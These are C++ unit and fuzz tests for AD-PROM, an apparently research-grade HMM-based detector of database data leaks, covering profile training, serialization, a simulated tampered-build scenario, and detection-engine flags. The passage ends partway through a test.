
TEST(ProfileConstructorTest, WindowCapSubsamples) {
  Workbench bench = MakeWorkbench(14);
  ProfileOptions capped;
  capped.max_training_windows = 5;
  capped.train.max_iterations = 1;
  capped.csds_fraction = 0.0;
  ConstructionTimings capped_times;
  ProfileConstructor a(capped);
  ASSERT_TRUE(a.Construct(bench.analysis, bench.traces, &capped_times).ok());

  // A larger (but still bounded) cap — generated programs can produce
  // tens of thousands of windows, so "uncapped" would dominate the suite.
  ProfileOptions full = capped;
  full.max_training_windows = 50;
  ConstructionTimings full_times;
  ProfileConstructor b(full);
  ASSERT_TRUE(b.Construct(bench.analysis, bench.traces, &full_times).ok());
  // More windows => at least as much training work (coarse sanity bound).
  EXPECT_GE(full_times.training_seconds, 0.0);
  EXPECT_GE(capped_times.training_seconds, 0.0);
}

TEST(ProfileConstructorTest, ColumnTaintDoesNotChangeProfileBytes) {
  // Site::source_columns is strictly additive metadata: the serialized
  // profile (pCTM mass, labeled_sources, model parameters, threshold) is
  // bit-identical whether the column-taint pass ran or not.
  auto program = prog::ParseProgram(R"(
fn main() {
  var r = db_query("SELECT name, ssn FROM patients");
  var v = db_getvalue(r, 0, 0);
  print(v);
}
)");
  ASSERT_TRUE(program.ok());
  auto schemas = db::BuildSchemaCatalog(
      {"CREATE TABLE patients (name TEXT, ssn TEXT)"});
  ASSERT_TRUE(schemas.ok()) << schemas.status().ToString();

  auto analyze = [&](bool column_taint) {
    AnalyzerOptions options;
    options.column_taint = column_taint;
    options.schemas = *schemas;
    Analyzer analyzer(options);
    auto analysis = analyzer.Analyze(*program);
    EXPECT_TRUE(analysis.ok());
    return std::move(analysis).value();
  };
  AnalysisResult with_columns = analyze(true);
  AnalysisResult without_columns = analyze(false);

  // The pass actually ran: some labeled site carries concrete columns.
  size_t columned_sites = 0;
  for (const auto& [name, ctm] : with_columns.function_ctms) {
    for (size_t i = 0; i < ctm.num_sites(); ++i) {
      columned_sites += ctm.site(i).source_columns.empty() ? 0 : 1;
    }
  }
  EXPECT_GT(columned_sites, 0u);
  for (const auto& [name, ctm] : without_columns.function_ctms) {
    for (size_t i = 0; i < ctm.num_sites(); ++i) {
      EXPECT_TRUE(ctm.site(i).source_columns.empty());
    }
  }

  auto db_factory = []() {
    auto database = std::make_unique<db::Database>();
    (void)database->Execute("CREATE TABLE patients (name TEXT, ssn TEXT)");
    (void)database->Execute("INSERT INTO patients VALUES ('ada', '123')");
    return database;
  };
  auto traces = AdProm::CollectTraces(*program, with_columns.cfgs,
                                      db_factory, {{{}}});
  ASSERT_TRUE(traces.ok()) << traces.status().ToString();
  ProfileOptions options;
  options.train.max_iterations = 2;
  ProfileConstructor constructor(options);
  auto on = constructor.Construct(with_columns, *traces);
  ASSERT_TRUE(on.ok()) << on.status().ToString();
  auto off = constructor.Construct(without_columns, *traces);
  ASSERT_TRUE(off.ok()) << off.status().ToString();
  EXPECT_EQ(on->Serialize(), off->Serialize());
}

TEST(ProfileConstructorTest, RejectsDegenerateInputs) {
  Workbench bench = MakeWorkbench(15);
  ProfileConstructor constructor{ProfileOptions()};
  EXPECT_FALSE(constructor.Construct(bench.analysis, {}).ok());

  // A call-free program cannot be profiled.
  auto empty_program = prog::ParseProgram("fn main() { var x = 1; }");
  ASSERT_TRUE(empty_program.ok());
  Analyzer analyzer;
  auto empty_analysis = analyzer.Analyze(*empty_program);
  ASSERT_TRUE(empty_analysis.ok());
  EXPECT_FALSE(
      constructor.Construct(*empty_analysis, bench.traces).ok());
}

TEST(ProfileConstructorTest, SeedChangesRandomInitOnly) {
  Workbench bench = MakeWorkbench(16);
  auto build = [&](ProfileOptions::Init init, uint64_t seed) {
    ProfileOptions options;
    options.init = init;
    options.seed = seed;
    options.train.max_iterations = 1;
    ProfileConstructor constructor(options);
    auto profile = constructor.Construct(bench.analysis, bench.traces);
    EXPECT_TRUE(profile.ok());
    return std::move(profile).value();
  };
  // Static init is seed-independent before training.
  const auto s1 = build(ProfileOptions::Init::kStatic, 1);
  const auto s2 = build(ProfileOptions::Init::kStatic, 2);
  EXPECT_LT(s1.model.a().MaxAbsDiff(s2.model.a()), 1e-12);
  // Random init differs by seed.
  const auto r1 = build(ProfileOptions::Init::kRandom, 1);
  const auto r2 = build(ProfileOptions::Init::kRandom, 2);
  EXPECT_GT(r1.model.a().MaxAbsDiff(r2.model.a()), 1e-6);
}

}  // namespace
}  // namespace adprom::core
