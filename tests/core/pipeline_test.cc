// End-to-end training-phase tests: analyze, collect traces, construct a
// profile, and check its structural properties.

#include <gtest/gtest.h>

#include "core/adprom.h"
#include "core/baselines.h"
#include "prog/program.h"
#include "tests/core/test_app.h"

namespace adprom::core {
namespace {

using core::testing::InventoryDbFactory;
using core::testing::InventoryTestCases;
using core::testing::kInventoryAppSource;

class PipelineTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    auto program = prog::ParseProgram(kInventoryAppSource);
    ASSERT_TRUE(program.ok()) << program.status().ToString();
    program_ = new prog::Program(std::move(program).value());
    auto system = AdProm::Train(*program_, InventoryDbFactory(),
                                InventoryTestCases());
    ASSERT_TRUE(system.ok()) << system.status().ToString();
    system_ = new AdProm(std::move(system).value());
  }

  static void TearDownTestSuite() {
    delete system_;
    delete program_;
    system_ = nullptr;
    program_ = nullptr;
  }

  static prog::Program* program_;
  static AdProm* system_;
};

prog::Program* PipelineTest::program_ = nullptr;
AdProm* PipelineTest::system_ = nullptr;

TEST_F(PipelineTest, PctmInvariantsHold) {
  EXPECT_TRUE(system_->analysis().program_ctm.CheckInvariants().ok())
      << system_->analysis().program_ctm.CheckInvariants().ToString();
}

TEST_F(PipelineTest, ProfileIsValidatedHmm) {
  const ApplicationProfile& profile = system_->profile();
  EXPECT_TRUE(profile.model.Validate().ok());
  EXPECT_GT(profile.num_sites, 0u);
  // Below the clustering threshold: one hidden state per site.
  EXPECT_EQ(profile.num_states, profile.num_sites);
}

TEST_F(PipelineTest, AlphabetCoversStaticAndDynamicObservables) {
  const ApplicationProfile& profile = system_->profile();
  EXPECT_TRUE(profile.alphabet.Contains("db_query"));
  EXPECT_TRUE(profile.alphabet.Contains("print_err"));
  // Labeled TD outputs appear with their _Q labels, not as plain calls.
  bool has_labeled = false;
  for (const std::string& symbol : profile.alphabet.symbols()) {
    if (symbol.rfind("print_Q", 0) == 0) has_labeled = true;
  }
  EXPECT_TRUE(has_labeled);
}

TEST_F(PipelineTest, LabeledSourcesResolveTables) {
  const ApplicationProfile& profile = system_->profile();
  ASSERT_FALSE(profile.labeled_sources.empty());
  bool items_found = false;
  for (const auto& [observable, tables] : profile.labeled_sources) {
    for (const std::string& table : tables) {
      if (table == "items") items_found = true;
    }
  }
  EXPECT_TRUE(items_found);
}

TEST_F(PipelineTest, StaticLabelsCoverDynamicLabels) {
  // Property: static taint over-approximates dynamic taint — every _Q
  // observable seen at run time is also a statically labeled site.
  const ApplicationProfile& profile = system_->profile();
  std::set<std::string> static_labels;
  const analysis::Ctm& pctm = system_->analysis().program_ctm;
  for (size_t i = 0; i < pctm.num_sites(); ++i) {
    if (pctm.site(i).labeled) static_labels.insert(pctm.site(i).observable);
  }
  for (const runtime::Trace& trace : system_->training_traces()) {
    for (const runtime::CallEvent& event : trace) {
      if (event.td_output) {
        EXPECT_TRUE(static_labels.count(event.Observable()) > 0)
            << "dynamic label " << event.Observable()
            << " has no static counterpart";
      }
    }
  }
  (void)profile;
}

TEST_F(PipelineTest, TrainingScoresAboveThreshold) {
  // Every training window must score at or above the chosen threshold
  // (the threshold is min CSDS score minus a margin).
  const ApplicationProfile& profile = system_->profile();
  DetectionEngine engine(&profile);
  size_t alarms = 0;
  size_t windows = 0;
  for (const runtime::Trace& trace : system_->training_traces()) {
    for (const Detection& d : engine.MonitorTrace(trace)) {
      ++windows;
      if (d.IsAlarm()) ++alarms;
    }
  }
  ASSERT_GT(windows, 0u);
  EXPECT_EQ(alarms, 0u);
}

TEST_F(PipelineTest, MonitoringBenignRunRaisesNoAlarm) {
  auto result = system_->Monitor(*program_, InventoryDbFactory(),
                                 {{"find", "9", "list"}});
  ASSERT_TRUE(result.ok()) << result.status().ToString();
  EXPECT_FALSE(result->HasAlarm());
}

TEST_F(PipelineTest, CMarkovProfileHasNoLabels) {
  auto system = AdProm::Train(*program_, InventoryDbFactory(),
                              InventoryTestCases(), CMarkovOptions());
  ASSERT_TRUE(system.ok()) << system.status().ToString();
  for (const std::string& symbol : system->profile().alphabet.symbols()) {
    EXPECT_EQ(symbol.find("_Q"), std::string::npos) << symbol;
  }
  EXPECT_TRUE(system->profile().labeled_sources.empty());
}

TEST_F(PipelineTest, RandHmmTrainsOnSameData) {
  ProfileOptions options = RandHmmOptions();
  options.train.max_iterations = 5;  // keep the test fast
  auto system = AdProm::Train(*program_, InventoryDbFactory(),
                              InventoryTestCases(), options);
  ASSERT_TRUE(system.ok()) << system.status().ToString();
  EXPECT_TRUE(system->profile().model.Validate().ok());
}

TEST_F(PipelineTest, ConstructionTimingsPopulated) {
  ConstructionTimings timings;
  auto system = AdProm::Train(*program_, InventoryDbFactory(),
                              InventoryTestCases(), ProfileOptions(),
                              &timings);
  ASSERT_TRUE(system.ok());
  EXPECT_GE(timings.training_seconds, 0.0);
  EXPECT_GE(timings.init_seconds, 0.0);
}

TEST_F(PipelineTest, ProfileSerializationRoundTripsThroughDetection) {
  const std::string text = system_->profile().Serialize();
  auto restored = ApplicationProfile::Deserialize(text);
  ASSERT_TRUE(restored.ok()) << restored.status().ToString();
  // The restored profile must classify a benign trace identically.
  DetectionEngine original(&system_->profile());
  DetectionEngine loaded(&*restored);
  const runtime::Trace& trace = system_->training_traces()[0];
  const auto a = original.MonitorTrace(trace);
  const auto b = loaded.MonitorTrace(trace);
  ASSERT_EQ(a.size(), b.size());
  for (size_t i = 0; i < a.size(); ++i) {
    EXPECT_EQ(a[i].flag, b[i].flag);
    EXPECT_NEAR(a[i].score, b[i].score, 1e-9);
  }
}

TEST(PipelineErrorsTest, TrainWithoutTracesFails) {
  auto program = prog::ParseProgram(kInventoryAppSource);
  ASSERT_TRUE(program.ok());
  auto system = AdProm::Train(*program, InventoryDbFactory(), {});
  EXPECT_FALSE(system.ok());
}

TEST(PipelineErrorsTest, ProgramWithoutCallsFails) {
  auto program = prog::ParseProgram("fn main() { var x = 1; }");
  ASSERT_TRUE(program.ok());
  auto system = AdProm::Train(*program, nullptr, {{{}}});
  EXPECT_FALSE(system.ok());
}

}  // namespace
}  // namespace adprom::core
