#include "core/profile.h"

#include <gtest/gtest.h>

namespace adprom::core {
namespace {

runtime::CallEvent MakeEvent(const std::string& callee,
                             const std::string& caller, int block = 1,
                             bool td = false) {
  runtime::CallEvent event;
  event.callee = callee;
  event.caller = caller;
  event.block_id = block;
  event.td_output = td;
  return event;
}

TEST(AlphabetTest, UnkIsAlwaysZero) {
  Alphabet alphabet;
  EXPECT_EQ(alphabet.unk_id(), 0);
  EXPECT_EQ(alphabet.size(), 1u);
  EXPECT_EQ(alphabet.symbol(0), "<unk>");
}

TEST(AlphabetTest, InternIsIdempotent) {
  Alphabet alphabet;
  const int a = alphabet.Intern("print");
  const int b = alphabet.Intern("scan");
  EXPECT_EQ(alphabet.Intern("print"), a);
  EXPECT_NE(a, b);
  EXPECT_EQ(alphabet.size(), 3u);
}

TEST(AlphabetTest, LookupFallsBackToUnk) {
  Alphabet alphabet;
  alphabet.Intern("print");
  EXPECT_EQ(alphabet.Lookup("print"), 1);
  EXPECT_EQ(alphabet.Lookup("never_seen"), alphabet.unk_id());
  EXPECT_TRUE(alphabet.Contains("print"));
  EXPECT_FALSE(alphabet.Contains("never_seen"));
}

TEST(SlidingWindowsTest, StrideOneWindows) {
  runtime::Trace trace;
  for (int i = 0; i < 10; ++i) trace.push_back(MakeEvent("c", "main", i));
  const auto windows = SlidingWindows(trace, 4);
  ASSERT_EQ(windows.size(), 7u);
  EXPECT_EQ(windows[0].size(), 4u);
  EXPECT_EQ(windows[6][3].block_id, 9);
}

TEST(SlidingWindowsTest, ShortTraceYieldsOneWindow) {
  runtime::Trace trace = {MakeEvent("a", "main"), MakeEvent("b", "main")};
  const auto windows = SlidingWindows(trace, 15);
  ASSERT_EQ(windows.size(), 1u);
  EXPECT_EQ(windows[0].size(), 2u);
}

TEST(SlidingWindowsTest, EmptyTrace) {
  runtime::Trace trace;
  EXPECT_TRUE(SlidingWindows(trace, 15).empty());
}

TEST(ProfileTest, ObservableHonoursLabelMode) {
  ApplicationProfile adprom_profile;
  adprom_profile.options.use_dd_labels = true;
  ApplicationProfile cmarkov_profile;
  cmarkov_profile.options.use_dd_labels = false;

  runtime::CallEvent event = MakeEvent("print", "f", 9, /*td=*/true);
  EXPECT_EQ(adprom_profile.ObservableOf(event), "print_Qf_9");
  EXPECT_EQ(cmarkov_profile.ObservableOf(event), "print");
}

TEST(ProfileTest, EncodeMapsUnknownToUnk) {
  ApplicationProfile profile;
  profile.alphabet.Intern("print");
  runtime::Trace trace = {MakeEvent("print", "main"),
                          MakeEvent("rogue", "main")};
  const auto seq = profile.Encode({trace.data(), trace.size()});
  EXPECT_EQ(seq, (hmm::ObservationSeq{1, 0}));
}

TEST(ProfileTest, SerializationRoundTrip) {
  ApplicationProfile profile;
  profile.options.window_length = 15;
  profile.options.use_dd_labels = true;
  profile.threshold = -3.25;
  profile.num_sites = 4;
  profile.num_states = 2;
  profile.alphabet.Intern("print");
  profile.alphabet.Intern("print_Qf_9");
  profile.context_pairs = {{"main", "print"}, {"f", "print"}};
  profile.labeled_sources["print_Qf_9"] = {"accounts", "clients"};
  util::Matrix a = util::Matrix::FromRows({{0.7, 0.3}, {0.4, 0.6}});
  util::Matrix b = util::Matrix::FromRows(
      {{0.5, 0.25, 0.25}, {0.1, 0.6, 0.3}});
  profile.model = hmm::HmmModel(std::move(a), std::move(b), {0.5, 0.5});

  const std::string text = profile.Serialize();
  auto restored = ApplicationProfile::Deserialize(text);
  ASSERT_TRUE(restored.ok()) << restored.status().ToString();
  EXPECT_EQ(restored->options.window_length, 15u);
  EXPECT_TRUE(restored->options.use_dd_labels);
  EXPECT_DOUBLE_EQ(restored->threshold, -3.25);
  EXPECT_EQ(restored->alphabet.size(), 3u);
  EXPECT_EQ(restored->alphabet.Lookup("print_Qf_9"), 2);
  EXPECT_EQ(restored->context_pairs, profile.context_pairs);
  EXPECT_EQ(restored->labeled_sources.at("print_Qf_9"),
            (std::vector<std::string>{"accounts", "clients"}));
  EXPECT_DOUBLE_EQ(restored->model.a().At(0, 0), 0.7);
  EXPECT_DOUBLE_EQ(restored->model.b().At(1, 2), 0.3);
  EXPECT_DOUBLE_EQ(restored->model.pi()[1], 0.5);
}

TEST(ProfileTest, DeserializeRejectsGarbage) {
  EXPECT_FALSE(ApplicationProfile::Deserialize("not a profile").ok());
  EXPECT_FALSE(ApplicationProfile::Deserialize("adprom-profile v1\n").ok());
}

}  // namespace
}  // namespace adprom::core
