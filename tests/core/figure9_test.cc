// The paper's Fig. 9 scenario: the attacker adds a print in the *other*
// branch that issues a call-name sequence identical to the legitimate
// branch's. Recording the block id in the `printf_Q[bid]` label is what
// lets AD-PROM tell line 9's print from line 11's; a name-only model
// (CMarkov) cannot.

#include <gtest/gtest.h>

#include "attack/mutators.h"
#include "core/adprom.h"
#include "core/baselines.h"
#include "prog/program.h"

namespace adprom::core {
namespace {

constexpr const char* kFigure9App = R"__(
fn main() {
  var mode = scan();
  while (!is_null(mode)) {
    summarize(mode);
    mode = scan();
  }
}
fn summarize(mode) {
  var r1 = db_query("SELECT COUNT(*) FROM employees");
  var r2 = db_query("SELECT COUNT(*) FROM employees WHERE income < 30000");
  var all_emps = db_getvalue(r1, 0, 0);
  var low_in = db_getvalue(r2, 0, 0);
  if (mode == "detail") {
    print("low income employees: " + low_in);
  }
  print("tax for such income is under 18% in IN state");
}
)__";

DbFactory EmployeesDb() {
  return [] {
    auto db = std::make_unique<db::Database>();
    db->Execute("CREATE TABLE employees (id INT, income INT)");
    for (int i = 0; i < 10; ++i) {
      db->Execute("INSERT INTO employees VALUES (" + std::to_string(i) +
                  ", " + std::to_string(20000 + i * 3000) + ")");
    }
    return db;
  };
}

std::vector<TestCase> Figure9Cases() {
  // Training exercises both the detail branch (print_Q then print) and
  // the summary-only path (print alone).
  return {{{"detail"}},        {{"summary"}},
          {{"detail", "summary"}}, {{"summary", "detail"}},
          {{"detail", "detail"}},  {{"summary", "summary"}}};
}

prog::Program TamperedBuild(const prog::Program& benign) {
  // Fig. 9's modification: an else-branch print of the same TD value —
  // the emitted call-name sequence matches the detail branch exactly.
  attack::InsertOutputSpec spec;
  spec.function = "summarize";
  spec.variable = "low_in";
  spec.where = attack::InsertWhere::kElseOfFirstIf;
  auto tampered = attack::InsertOutputStatement(benign, spec);
  EXPECT_TRUE(tampered.ok()) << tampered.status().ToString();
  return std::move(tampered).value();
}

TEST(Figure9Test, BlockIdLabelsDistinguishTheBranches) {
  auto program = prog::ParseProgram(kFigure9App);
  ASSERT_TRUE(program.ok()) << program.status().ToString();
  auto system = AdProm::Train(*program, EmployeesDb(), Figure9Cases());
  ASSERT_TRUE(system.ok()) << system.status().ToString();

  const prog::Program tampered = TamperedBuild(*program);

  // Running the tampered build with "summary" hits the injected print:
  // AD-PROM sees print_Qsummarize_<new block> — an unseen label.
  auto result = system->Monitor(tampered, EmployeesDb(), {{"summary"}});
  ASSERT_TRUE(result.ok());
  EXPECT_TRUE(result->HasAlarm());
  EXPECT_TRUE(result->ConnectedToSource());

  // The same build through the *detail* path executes only original
  // code: no alarm.
  auto detail = system->Monitor(tampered, EmployeesDb(), {{"detail"}});
  ASSERT_TRUE(detail.ok());
  EXPECT_FALSE(detail->HasAlarm());
}

TEST(Figure9Test, NameOnlyModelCannotTell) {
  auto program = prog::ParseProgram(kFigure9App);
  ASSERT_TRUE(program.ok());
  auto cmarkov = AdProm::Train(*program, EmployeesDb(), Figure9Cases(),
                               CMarkovOptions());
  ASSERT_TRUE(cmarkov.ok()) << cmarkov.status().ToString();

  const prog::Program tampered = TamperedBuild(*program);
  // The injected print's call-name sequence equals the trained detail
  // branch — indistinguishable without block-id labels.
  auto result = cmarkov->Monitor(tampered, EmployeesDb(), {{"summary"}});
  ASSERT_TRUE(result.ok());
  EXPECT_FALSE(result->HasAlarm());
}

TEST(Figure9Test, TraceShowsLabeledObservables) {
  auto program = prog::ParseProgram(kFigure9App);
  ASSERT_TRUE(program.ok());
  auto cfgs = prog::BuildAllCfgs(*program);
  ASSERT_TRUE(cfgs.ok());
  auto trace = AdProm::CollectTrace(*program, *cfgs, EmployeesDb(),
                                    {{"detail"}});
  ASSERT_TRUE(trace.ok());
  // Expect exactly one labeled print (the TD output) and one plain print.
  int labeled = 0;
  int plain = 0;
  for (const runtime::CallEvent& event : *trace) {
    if (event.callee != "print") continue;
    if (event.td_output) {
      ++labeled;
      EXPECT_EQ(event.Observable().rfind("print_Qsummarize_", 0), 0u);
    } else {
      ++plain;
      EXPECT_EQ(event.Observable(), "print");
    }
  }
  EXPECT_EQ(labeled, 1);
  EXPECT_EQ(plain, 1);
}

}  // namespace
}  // namespace adprom::core
