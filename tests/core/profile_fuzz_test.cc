// Fuzz-style malformed-input corpus for ApplicationProfile::Deserialize:
// truncated files (every byte prefix), hostile size fields, NaN/inf
// probabilities and thresholds, duplicate alphabet symbols, and random
// mutations must all fail as clean util::Result errors — never a crash or
// a runaway allocation. Runs under ASan/TSan in the sanitizer CI jobs.

#include <gtest/gtest.h>

#include <limits>
#include <string>
#include <vector>

#include "core/profile.h"
#include "hmm/hmm_model.h"
#include "util/matrix.h"
#include "util/rng.h"
#include "util/strings.h"

namespace adprom::core {
namespace {

ApplicationProfile MakeValidProfile() {
  ApplicationProfile profile;
  profile.options.window_length = 4;
  profile.alphabet.Intern("print");
  profile.alphabet.Intern("scan");
  // Dyadic probabilities: %.17g prints them back verbatim ("0.25"), so
  // the mutation table below can match on the serialized text.
  profile.model = hmm::HmmModel(
      util::Matrix::FromRows({{0.75, 0.25}, {0.5, 0.5}}),
      util::Matrix::FromRows({{0.25, 0.5, 0.25}, {0.5, 0.25, 0.25}}),
      {0.5, 0.5});
  profile.threshold = -3.5;
  profile.num_sites = 7;
  profile.num_states = 2;
  profile.context_pairs.insert({"main", "print"});
  profile.context_pairs.insert({"main", "scan"});
  profile.labeled_sources["print_Qmain_1"] = {"items"};
  return profile;
}

/// Replaces the first occurrence of `from` (which must exist) with `to`.
std::string Mutate(const std::string& text, const std::string& from,
                   const std::string& to) {
  const size_t pos = text.find(from);
  EXPECT_NE(pos, std::string::npos) << from;
  std::string out = text;
  out.replace(pos, from.size(), to);
  return out;
}

TEST(ProfileFuzzTest, BaseProfileRoundTrips) {
  const std::string text = MakeValidProfile().Serialize();
  auto profile = ApplicationProfile::Deserialize(text);
  ASSERT_TRUE(profile.ok()) << profile.status().ToString();
  EXPECT_EQ(profile->Serialize(), text);
}

TEST(ProfileFuzzTest, EveryLinePrefixFailsCleanly) {
  const std::string text = MakeValidProfile().Serialize();
  const std::vector<std::string> lines = util::Split(text, '\n');
  std::string prefix;
  for (size_t i = 0; i + 1 < lines.size(); ++i) {
    // Every proper prefix of whole lines is a truncated file: the parser
    // must report an error, not crash or fabricate a profile.
    auto result = ApplicationProfile::Deserialize(prefix);
    EXPECT_FALSE(result.ok()) << "accepted " << i << "-line prefix";
    prefix += lines[i];
    prefix += '\n';
  }
}

TEST(ProfileFuzzTest, EveryByteTruncationFailsCleanly) {
  const std::string text = MakeValidProfile().Serialize();
  for (size_t cut = 0; cut < text.size(); ++cut) {
    auto result = ApplicationProfile::Deserialize(text.substr(0, cut));
    if (result.ok()) {
      // The only acceptable "ok" prefix is the full file modulo its final
      // newline; any shorter cut lost information.
      EXPECT_GE(cut, text.size() - 1) << "accepted byte prefix " << cut;
    }
  }
}

TEST(ProfileFuzzTest, HostileHeaderAndSizeFieldsAreRejected) {
  const std::string text = MakeValidProfile().Serialize();
  const std::vector<std::pair<std::string, std::string>> mutations = {
      {"adprom-profile v2", "adprom-profile v3"},
      {"adprom-profile v2", "adprom-profile"},
      {"window_length 4", "window_length 0"},
      {"window_length 4", "window_length 1"},
      {"window_length 4", "window_length 1048577"},
      {"window_length 4", "window_length 99999999999999999999"},
      {"threshold ", "threshold nan\nignored "},
      {"threshold ", "threshold inf\nignored "},
      {"threshold ", "threshold 1e999\nignored "},
      {"alphabet 3", "alphabet 0"},
      {"alphabet 3", "alphabet 4000000000"},
      {"<unk>", "not-unk"},
      {"scan\n", "print\n"},  // duplicate symbol
      {"context_pairs 2", "context_pairs 4000000000"},
      {"labeled_sources 1", "labeled_sources 4000000000"},
      {"hmm 2 3", "hmm 0 3"},
      {"hmm 2 3", "hmm 2 0"},
      {"hmm 2 3", "hmm 99999 99999"},
      {"hmm 2 3", "hmm 2 2"},  // emission columns != alphabet size
      {"hmm 2 3", "hmm 2 4"},
      {"a-sparse", "a-dense"},
      {"2 0 0.75 1 0.25", "3 0 0.75 1 0.25"},  // nnz > num_states
      {"2 0 0.75 1 0.25", "2 1 0.75 0 0.25"},  // columns not increasing
      {"2 0 0.75 1 0.25", "2 0 0.75 5 0.25"},  // column out of range
      {"2 0 0.75 1 0.25", "2 0 0.75 1"},       // truncated pair
      {"0.25 0.5 0.25", "0.25 nan 0.25"},
      {"0.25 0.5 0.25", "1.25 -0.5 0.25"},  // negative entry, sums to 1
  };
  for (const auto& [from, to] : mutations) {
    auto result = ApplicationProfile::Deserialize(Mutate(text, from, to));
    EXPECT_FALSE(result.ok()) << "accepted: " << from << " -> " << to;
  }
}

TEST(ProfileFuzzTest, NonFiniteModelParametersDoNotReload) {
  ApplicationProfile profile = MakeValidProfile();
  const double nan = std::numeric_limits<double>::quiet_NaN();
  profile.model = hmm::HmmModel(
      util::Matrix::FromRows({{0.7, 0.3}, {0.4, 0.6}}),
      util::Matrix::FromRows({{0.2, nan, 0.3}, {0.2, 0.3, 0.5}}),
      {0.5, 0.5});
  // The in-memory model itself fails validation...
  EXPECT_FALSE(profile.model.Validate(1e-3).ok());
  // ...and its serialized form cannot be smuggled back in.
  auto result = ApplicationProfile::Deserialize(profile.Serialize());
  EXPECT_FALSE(result.ok());

  profile.threshold = nan;
  auto bad_threshold = ApplicationProfile::Deserialize(profile.Serialize());
  EXPECT_FALSE(bad_threshold.ok());
}

TEST(ProfileFuzzTest, RandomByteSoupNeverCrashes) {
  util::Rng rng(20260806);
  const std::string charset = "adprom-filev1 0123456789.\n<>_#%";
  for (int round = 0; round < 300; ++round) {
    std::string text;
    const size_t len = rng.UniformU64(200);
    for (size_t i = 0; i < len; ++i) {
      text += charset[rng.UniformU64(charset.size())];
    }
    (void)ApplicationProfile::Deserialize(text);
    (void)ApplicationProfile::Deserialize("adprom-profile v1\n" + text);
  }
}

TEST(ProfileFuzzTest, RandomSingleByteMutationsNeverCrash) {
  util::Rng rng(777);
  const std::string text = MakeValidProfile().Serialize();
  for (int round = 0; round < 400; ++round) {
    std::string mutated = text;
    const size_t pos = rng.UniformU64(mutated.size());
    mutated[pos] = static_cast<char>(rng.UniformU64(128));
    // A flipped digit can still be a valid profile; anything else must be
    // a clean error. Either way: return, don't crash.
    (void)ApplicationProfile::Deserialize(mutated);
  }
}

}  // namespace
}  // namespace adprom::core
