// Unit tests of the Detection Engine flag logic against a hand-built
// profile (no training pipeline involved).

#include "core/detection_engine.h"

#include <gtest/gtest.h>

namespace adprom::core {
namespace {

runtime::CallEvent MakeEvent(const std::string& callee,
                             const std::string& caller, int block,
                             bool td = false,
                             std::vector<std::string> tables = {}) {
  runtime::CallEvent event;
  event.callee = callee;
  event.caller = caller;
  event.block_id = block;
  event.call_site_id = block;
  event.td_output = td;
  event.source_tables = std::move(tables);
  return event;
}

/// A profile whose 2-symbol HMM strongly prefers alternating a/b and whose
/// alphabet is {<unk>, a, b, print_Qmain_9}.
ApplicationProfile MakeProfile() {
  ApplicationProfile profile;
  profile.options.window_length = 4;
  profile.alphabet.Intern("a");                // id 1
  profile.alphabet.Intern("b");                // id 2
  profile.alphabet.Intern("print_Qmain_9");    // id 3
  const double eps = 1e-9;
  util::Matrix a = util::Matrix::FromRows(
      {{eps, 1.0 - 2 * eps, eps}, {1.0 - 2 * eps, eps, eps},
       {0.5 - eps, 0.5 - eps, 2 * eps}});
  // States: 0 emits "a", 1 emits "b", 2 emits the labeled print.
  util::Matrix b = util::Matrix::FromRows(
      {{eps, 1.0 - 3 * eps, eps, eps},
       {eps, eps, 1.0 - 3 * eps, eps},
       {eps, eps, eps, 1.0 - 3 * eps}});
  profile.model = hmm::HmmModel(std::move(a), std::move(b),
                                {0.4, 0.4, 0.2});
  EXPECT_TRUE(profile.model.Validate().ok());
  profile.threshold = -3.0;
  profile.context_pairs = {{"main", "a"}, {"main", "b"},
                           {"main", "print"}};
  profile.labeled_sources["print_Qmain_9"] = {"secrets"};
  return profile;
}

runtime::Trace AlternatingTrace(size_t n) {
  runtime::Trace trace;
  for (size_t i = 0; i < n; ++i) {
    trace.push_back(MakeEvent(i % 2 == 0 ? "a" : "b", "main",
                              static_cast<int>(i % 2)));
  }
  return trace;
}

TEST(DetectionEngineTest, NormalWindowPasses) {
  const ApplicationProfile profile = MakeProfile();
  DetectionEngine engine(&profile);
  const auto detections = engine.MonitorTrace(AlternatingTrace(10));
  ASSERT_EQ(detections.size(), 7u);  // 10 - 4 + 1
  for (const Detection& d : detections) {
    EXPECT_EQ(d.flag, DetectionFlag::kNormal);
    EXPECT_GT(d.score, profile.threshold);
  }
}

TEST(DetectionEngineTest, ImplausibleSequenceIsAnomalous) {
  const ApplicationProfile profile = MakeProfile();
  DetectionEngine engine(&profile);
  // a,a,a,a has near-zero probability under the alternating model.
  runtime::Trace trace;
  for (int i = 0; i < 4; ++i) trace.push_back(MakeEvent("a", "main", 0));
  const auto detections = engine.MonitorTrace(trace);
  ASSERT_EQ(detections.size(), 1u);
  EXPECT_EQ(detections[0].flag, DetectionFlag::kAnomalous);
  EXPECT_TRUE(detections[0].source_tables.empty());
}

TEST(DetectionEngineTest, TdOutputUpgradesToDataLeak) {
  const ApplicationProfile profile = MakeProfile();
  DetectionEngine engine(&profile);
  runtime::Trace trace;
  trace.push_back(MakeEvent("a", "main", 0));
  trace.push_back(MakeEvent("a", "main", 0));
  trace.push_back(MakeEvent("a", "main", 0));
  trace.push_back(MakeEvent("print", "main", 9, /*td=*/true, {"vault"}));
  const auto detections = engine.MonitorTrace(trace);
  ASSERT_EQ(detections.size(), 1u);
  EXPECT_EQ(detections[0].flag, DetectionFlag::kDataLeak);
  // Dynamic provenance and the profile's static table mapping merge.
  EXPECT_EQ(detections[0].source_tables,
            (std::vector<std::string>{"secrets", "vault"}));
}

TEST(DetectionEngineTest, OutOfContextBeatsScore) {
  const ApplicationProfile profile = MakeProfile();
  DetectionEngine engine(&profile);
  // Perfectly plausible symbols, but "a" issued from a foreign function.
  runtime::Trace trace = AlternatingTrace(4);
  trace[2].caller = "rogue_fn";
  const auto detections = engine.MonitorTrace(trace);
  ASSERT_EQ(detections.size(), 1u);
  EXPECT_EQ(detections[0].flag, DetectionFlag::kOutOfContext);
  EXPECT_NE(detections[0].detail.find("rogue_fn"), std::string::npos);
}

TEST(DetectionEngineTest, UnknownSymbolForcesZeroProbability) {
  const ApplicationProfile profile = MakeProfile();
  DetectionEngine engine(&profile);
  runtime::Trace trace = AlternatingTrace(4);
  trace[1] = MakeEvent("never_seen_call", "main", 0);
  const auto detections = engine.MonitorTrace(trace);
  ASSERT_EQ(detections.size(), 1u);
  EXPECT_TRUE(detections[0].IsAlarm());
  EXPECT_LE(detections[0].score, -1e8);
}

TEST(DetectionEngineTest, ShortTraceYieldsSingleWindow) {
  const ApplicationProfile profile = MakeProfile();
